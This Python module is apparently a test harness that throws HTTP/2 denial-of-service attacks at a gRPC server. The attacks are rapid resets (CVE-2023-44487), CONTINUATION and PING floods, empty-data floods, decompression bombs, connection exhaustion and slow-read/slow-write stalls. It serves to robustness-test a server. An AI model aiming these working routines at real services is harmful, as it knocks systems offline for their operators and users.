"""What a caller may do to a server on purpose, each for a bounded while.

Every attack takes the server's HOST:PORT and returns when it has done its part; what it opened is
closed then.
"""

from __future__ import annotations

import contextlib
import random
import struct
import zlib
from collections.abc import Callable, Iterator

from support.raw_calls import float32, identity_request
from support.raw_frames import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    EVALUATE,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    RawConnection,
    call_headers,
    data_frames,
    frame,
    literal,
    message,
    settings,
)

MIB = 1 << 20
# Of a request that is announced and never comes whole.
ANNOUNCED = 4 * MIB
CALLS = 100


def rapid_resets(address: str) -> None:
    """Start calls and take them back at once (CVE-2023-44487)."""
    block, cancel = call_headers(), struct.pack(">I", CANCEL)
    with RawConnection(address) as connection:
        for first in range(1, 20_000, 200):
            streams = range(first, first + 200, 2)
            pairs = (
                frame(HEADERS, END_HEADERS, one, block) + frame(RESET, 0, one, cancel)
                for one in streams
            )
            if not connection.send(*pairs):
                return
        connection.drain(0.2)


def many_headers(address: str) -> None:
    """Send a megabyte of headers with one call."""
    block = call_headers(*((b"x-%d" % number, bytes(100)) for number in range(9000)))
    pieces = [block[at : at + (1 << 14)] for at in range(0, len(block), 1 << 14)]
    with RawConnection(address) as connection:
        connection.send(frame(HEADERS, 0, 1, pieces[0]))
        connection.send(*(frame(CONTINUATION, 0, 1, piece) for piece in pieces[1:]))
        connection.drain(0.2)


def endless_headers(address: str) -> None:
    """Send headers that do not end, large ones and empty ones (CVE-2024-27316)."""
    large = frame(CONTINUATION, 0, 1, literal(b"x", bytes(16_000)))
    empty = frame(CONTINUATION, 0, 1)
    for flood, times in ((large, 2_000), (empty * 1000, 200)):
        with RawConnection(address) as connection:
            connection.send(frame(HEADERS, 0, 1, call_headers()))
            for _ in range(times):
                if not connection.send(flood):
                    break


def questions(address: str) -> None:
    """Ask for signs of life and change settings, and read no answer (CVE-2019-9512, 9515)."""
    for flood in (frame(PING, 0, 0, bytes(8)) * 1000, settings(s4=65_535) * 1000):
        with RawConnection(address) as connection:
            connection.socket.settimeout(0.5)
            for _ in range(20):
                if not connection.send(flood):
                    break


def empty_data(address: str) -> None:
    """Send frames of data that hold none (CVE-2019-9518)."""
    with RawConnection(address) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, call_headers()))
        for _ in range(100):
            if not connection.send(frame(DATA, 0, 1) * 1000):
                return


def dropped_connections(address: str) -> None:
    """Open 10 000 connections, a thousand at once, greet with every second, and drop them."""
    for _ in range(10):
        with contextlib.ExitStack() as held:
            for number in range(1000):
                held.enter_context(RawConnection(address, greet=bool(number % 2)))


def half_greetings(address: str) -> None:
    """Hold connections that have not said all it takes to begin."""
    with contextlib.ExitStack() as held:
        for number in range(500):
            connection = held.enter_context(RawConnection(address, greet=False))
            connection.send(PREFACE[: number % len(PREFACE)])
            if number % 3 == 0:
                connection.send(PREFACE[number % len(PREFACE) :], settings())
                connection.send(frame(HEADERS, 0, 1, call_headers()[:20]))


def garbage(address: str) -> None:
    """Speak something else: HTTP/1.1, TLS, noise, noise after a greeting, nothing."""
    noise = random.Random(0).randbytes(1 << 16)  # noqa: S311 - nothing secret
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + noise[:500]
    said = [b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", hello, noise, PREFACE + noise, b""]
    for words in said:
        with RawConnection(address, greet=False) as connection:
            connection.send(words)
            connection.drain(0.05)


def bombs(address: str) -> None:
    """Send messages of 60 KiB that are 60 MiB when they are unpacked."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(60)) + packer.flush()
    block = call_headers((b"grpc-encoding", b"gzip"))
    for _ in range(10):
        with RawConnection(address) as connection:
            connection.send(frame(HEADERS, END_HEADERS, 1, block))
            # Less than a window: nobody has to listen.
            connection.send(*data_frames(1, message(packed, compressed=True)))
            connection.drain(0.1)


def slow_reads(address: str) -> None:
    """Ask for megabytes, a hundred at once, with no window for any byte of them."""
    request = identity_request(MIB // 4, data=bytes(4))
    request.input.CopyFrom(float32(MIB // 4, strides=(0,)))
    body = message(request.SerializeToString())
    with contextlib.ExitStack() as held:
        connections = [held.enter_context(RawConnection(address, window=0)) for _ in range(4)]
        for connection in connections:
            for stream in range(1, 2 * CALLS, 2):
                head = frame(HEADERS, END_HEADERS, stream, call_headers())
                connection.send(head, *data_frames(stream, body))
        connections[-1].drain(0.5)


def slow_writes(address: str) -> None:
    """Begin requests of megabytes, a hundred at once, and send a part of each."""
    with contextlib.ExitStack() as held:
        connections = [held.enter_context(RawConnection(address)) for _ in range(4)]
        for connection in connections:
            connection.send(*unfinished(CALLS))
        connections[-1].drain(0.5)


def unfinished(calls: int, *, method: str = EVALUATE) -> Iterator[bytes]:
    """Yield the frames of calls whose requests have begun."""
    for stream in range(1, 2 * calls, 2):
        yield frame(HEADERS, END_HEADERS, stream, call_headers(method=method))
        yield frame(DATA, 0, stream, struct.pack(">BI", 0, ANNOUNCED) + bytes(500))


ATTACKS: dict[str, Callable[[str], None]] = {
    each.__name__: each
    for each in (
        rapid_resets,
        many_headers,
        endless_headers,
        questions,
        empty_data,
        dropped_connections,
        half_greetings,
        garbage,
        bombs,
        slow_reads,
        slow_writes,
    )
}
